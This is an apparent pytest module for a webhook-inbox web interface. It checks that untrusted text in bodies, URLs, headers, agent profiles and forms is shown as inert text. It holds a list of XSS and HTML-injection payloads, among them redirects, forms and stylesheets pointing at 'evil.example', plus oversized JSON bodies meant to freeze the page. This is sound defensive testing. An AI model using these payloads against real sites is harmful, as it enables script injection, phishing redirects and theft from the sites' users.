"""Text that strangers wrote stays text: payloads that attack pages, in every place where a stranger's text is shown, in
lists that are there and in lists that go on, in every view of a body.

What runs would call `boom`, open a dialog, ask another host, or make an element that is not the page's own; each of
these fails the test. (What the terminal client prints is held to the same in `tests/postroom/test_cli_hostile.py`.)
"""

import http.client
import json
from collections.abc import Callable
from urllib.parse import quote

import pytest

from tests.browser.driver import WAIT_MS, Visitor
from tests.browser.scene import meet
from tests.live.api import Api, new_slug

Visit = Callable[..., Visitor]

HOSTILE = (
    "<script>boom()</script>",
    "</script><script>boom()</script>",
    "<img src=x onerror=boom()>",
    '"><svg onload=boom()>',
    "' autofocus onfocus='boom()' x='",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    '<a href="javascript:boom()">click</a>',
    "javascript:boom()",
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example/><button>Sign in</button></form>",
    "<base href=http://evil.example/>",
    "</textarea></pre></title></template><script>boom()</script>",
    "<template shadowrootmode=open><script>boom()</script></template>",
    "<!--<img src='--><img src=x onerror=boom()>",
    "<svg/onload=boom()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
    "{{7*7}}{%raw%}${boom()}",
    "&lt;script&gt;boom()&lt;/script&gt;",
    "\u202etxet desrever\u202c \u2066isolated\u2069",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "zero\u200bwidth\ufeff and a \u0000 byte",
    "a\u0301" * 40,
)

OURS = "#messages, #json, pre, .headers, .facts, .list, .note"
"""Where strangers' text is shown."""

FOREIGN = (
    "script:not([src^='/ui/static/']), iframe, object, embed, meta[http-equiv], base, style,"
    " link:not([href^='/ui/static/']), [onload], [onerror], [onfocus], a[href^='javascript:' i],"
    " form[action^='http'], img:not([src^='/ui/static/']), svg, math"
)

ALL = " ".join(text for text in HOSTILE if text.isprintable())


def watched(visitor: Visitor) -> Visitor:
    visitor.context.add_init_script(
        "window.booms = 0; window.boom = () => window.booms++; window.trusted = 0;"
        "document.addEventListener('securitypolicyviolation', () => window.trusted++);"
    )
    return visitor


def unharmed(visitor: Visitor) -> None:
    page = visitor.page
    assert page.evaluate("window.booms") == 0
    assert page.evaluate("window.trusted") == 0, "something tried, and only the policy stopped it"
    assert page.eval_on_selector_all(FOREIGN, "all => all.map(one => one.outerHTML)") == []
    assert page.is_visible("main h1")
    assert visitor.questions == []
    assert page.url.startswith(visitor.url)
    visitor.check()


def sent(api: Api, slug: str, text: str) -> None:
    """Send a text as body, path, query and header."""
    header = text.encode("ascii", "ignore").decode().translate(dict.fromkeys((*range(32), 127)))
    # As it is but for blanks, in whose place HTML takes slashes as well: clients that mean well would write escapes.
    target = quote(text.replace(" ", "/"), safe="<>'\"/=()!-&;:{}$[]*")
    connection = http.client.HTTPConnection(api.url.removeprefix("http://"), timeout=WAIT_MS / 1000)
    connection.request(
        "POST",
        f"/in/{slug}/{target}?{target}",
        json.dumps({text: [text, {text: text}]}, ensure_ascii=False).encode(),
        {"X-Hostile": header.strip(), "Content-Type": "application/json", "User-Agent": header.strip()},
    )
    assert connection.getresponse().status == 200, target
    connection.close()
    api.post(slug, text.encode(), headers={"Content-Type": "text/html"}).raise_for_status()


def test_in_lists_and_in_every_view_of_a_message(admin: Visitor, api: Api) -> None:
    watched(admin)
    slug = api.inbox(
        verifier="hmac",
        verifier_options={
            "header": "X-Signature",
            "event_type": "header:X-Event",
            "delivery_id": "header:X-Id",
        },
        secret="a secret of mine",
        name="<img src=x onerror=boom()>",
    )
    for text in HOSTILE:
        sent(api, slug, text)
    admin.open("/ui/inboxes")
    unharmed(admin)
    admin.open(f"/ui/inboxes/{slug}")
    admin.says("#state", "Live")
    for text in HOSTILE[:8]:
        sent(api, slug, text)
    last = 2 * len(HOSTILE) + 16
    admin.says("#messages > li:first-child .seq", str(last))
    assert "onerror" in admin.text("#messages")
    unharmed(admin)
    for seq in range(1, 2 * len(HOSTILE), 6):
        for view in ("json", "text", "hex"):
            admin.open(f"/ui/inboxes/{slug}/messages/{seq}?view={view}")
            if view == "json":
                admin.page.wait_for_selector("#json > details, #json > .leaf")
        unharmed(admin)


def test_a_page_of_all_of_them_shows_them_as_they_are(admin: Visitor, api: Api) -> None:
    watched(admin)
    slug = api.inbox()
    api.send(slug, json.dumps({"all": list(HOSTILE)}, ensure_ascii=False).encode())
    admin.open(f"/ui/inboxes/{slug}/messages/1")
    admin.says("#json", "mglyph")
    tree = admin.text("#json")
    for text in HOSTILE[:18]:
        assert json.dumps(text) in tree, text
    assert "\u202e" not in tree
    assert "⟨U+202E⟩" in tree
    unharmed(admin)


def test_what_agents_say_of_themselves_and_to_each_other(admin: Visitor, api: Api) -> None:
    watched(admin)
    machine, agent_id = new_slug()[:40], new_slug()[:40]
    api.ok("POST", "/machines", {"name": machine}, status=201)
    api.ok("POST", "/agents", {"agent_id": agent_id, "machine": machine}, status=201)
    body = {"kind": "agent", "agent": agent_id, "inboxes": "all"}
    agent = api.as_(api.ok("POST", "/tokens", body, status=201)["token"])
    card = {
        "agent_id": agent_id,
        "role": HOSTILE[2],
        "repo": HOSTILE[3],
        "status": HOSTILE[0],
        "caps": [HOSTILE[6]],
    }
    meet(agent, "/agent/checkin", card)
    agent.ok("PUT", "/beacons/odd", {"about": ALL[:1900], "require": [HOSTILE[2]], "types": [HOSTILE[0]]})
    letter = {"type": "created", "kind": "note", "subject": HOSTILE[2], "text": ALL, "tags": ["<b>tag</b>"]}
    agent.ok("POST", "/publish", {**letter, "to": {"agents": [agent_id]}})
    meet(agent, "/agent/send", {"to_agent": agent_id, "msg_type": "note", "payload": {HOSTILE[2]: ALL}})
    for path in (
        "/ui/agents",
        f"/ui/agents/{agent_id}",
        f"/ui/inboxes/agent.{agent_id}",
        f"/ui/inboxes/agent.{agent_id}/messages/1",
        f"/ui/inboxes/agent.{agent_id}/messages/2",
    ):
        admin.open(path)
        unharmed(admin)
    admin.open(f"/ui/agents/{agent_id}")
    admin.page.click("text=Edit")
    unharmed(admin)


def test_in_addresses_and_forms_that_somebody_was_given(visit: Visit, api: Api) -> None:
    visitor = watched(visit())
    attack = quote('"><script>boom()</script>')
    slug = api.inbox()
    visitor.page.goto(f"/ui/sign-in?next={attack}")
    visitor.page.goto(f"/ui/{attack}")
    visitor.bring(str(api.token))
    for path in (
        f"/ui/inboxes?after={attack}",
        f"/ui/inboxes/{slug}?types={attack}&since={attack}",
        f"/ui/{attack}",
    ):
        visitor.page.goto(path)
        unharmed(visitor)
    visitor.page.goto("/ui/new-inbox")
    visitor.page.eval_on_selector("#f-slug", "one => one.removeAttribute('pattern')")
    visitor.page.fill("#f-slug", HOSTILE[3])
    visitor.page.fill("#f-name", HOSTILE[0])
    visitor.page.click("main button.primary")
    visitor.says(".field.wrong", "Expected 1 to 64 characters")
    assert visitor.page.input_value("#f-name") == HOSTILE[0]
    unharmed(visitor)


def test_text_in_fields_is_as_visible_as_elsewhere_and_stays_what_it_was(admin: Visitor, api: Api) -> None:
    watched(admin)
    odd = "pay\u202eroll\u2066x\u200by"
    slug = api.inbox(name=odd, response={"status": 200, "body": f"{odd}\r\n{odd}"})
    page = admin.open(f"/ui/inboxes/{slug}/settings")
    assert page.input_value("#f-name") == "pay⟨U+202E⟩roll⟨U+2066⟩x⟨U+200B⟩y"
    page.fill("[name='retention.max_messages']", "500")
    page.click("text=Save")
    admin.says(".note", "were changed")
    inbox = api.get(f"/inboxes/{slug}")
    assert (inbox["name"], inbox["response"]["body"]) == (odd, f"{odd}\r\n{odd}")
    assert inbox["retention"]["max_messages"] == 500
    unharmed(admin)


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("deep and valid", b"[" * 100 + b'"<script>boom()</script>",' * 190_000 + b"1" + b"]" * 100),
        ("deeper than anything", b"[" * 2_500_000 + b"]" * 2_500_000),
        ("wide", b"[" + b",".join(b'{"k":"<img src=x onerror=boom()>"}' for _ in range(150_000)) + b"]"),
        ("one line", b'{"a":"' + b"<script>boom()</script>" * 220_000 + b'"}'),
        ("not closed", b'{"a":[' * 800_000),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_five_megabytes_do_not_stop_the_page(admin: Visitor, api: Api, name: str, body: bytes) -> None:
    watched(admin)
    slug = api.inbox()
    api.send(slug, body, headers={"Content-Type": "application/json"})
    page = admin.open(f"/ui/inboxes/{slug}/messages/1?view=json")
    page.click("#json button")
    page.wait_for_selector("#json > details, #json > .leaf")
    for _ in range(3):
        deepest = page.locator("#json details:not([open]) > summary")
        if deepest.count():
            deepest.first.click()
    elements = page.evaluate("document.querySelectorAll('*').length")
    assert elements < 2_000, f"{name}: {elements}"
    page.keyboard.press("?")
    assert page.is_visible("#shortcuts")
    page.keyboard.press("Escape")
    unharmed(admin)
    admin.open(f"/ui/inboxes/{slug}/messages/1?view=text&at=131072")
    unharmed(admin)
